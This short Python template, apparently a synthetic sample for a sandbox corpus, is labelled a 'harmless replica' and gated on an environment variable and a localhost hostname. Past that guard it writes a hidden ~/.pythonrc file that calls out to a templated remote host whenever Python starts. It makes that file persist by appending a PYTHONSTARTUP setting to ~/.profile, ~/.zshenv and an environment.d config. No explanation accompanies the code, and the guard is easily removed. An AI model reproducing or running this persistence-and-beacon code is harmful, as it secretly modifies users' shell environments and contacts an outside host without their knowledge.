# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    try:
        file = os.path.expanduser('~/.pythonrc.{{token}}.py')
        with open(file, 'w') as out:
            out.write("import urllib.request as _u\ntry:\n    _u.urlopen('https://{{host}}/{{path}}', timeout=1)\nexcept Exception:\n    pass\n")
        os.makedirs(os.path.expanduser('~/.config/environment.d'), exist_ok=True)
        for name in ('.profile', '.zshenv', '.config/environment.d/{{token}}.conf'):
            with open(os.path.expanduser('~/' + name), 'a') as out:
                out.write(('' if name.endswith('.conf') else 'export ') + 'PYTHONSTARTUP=%s\n' % file)
    except OSError:
        pass
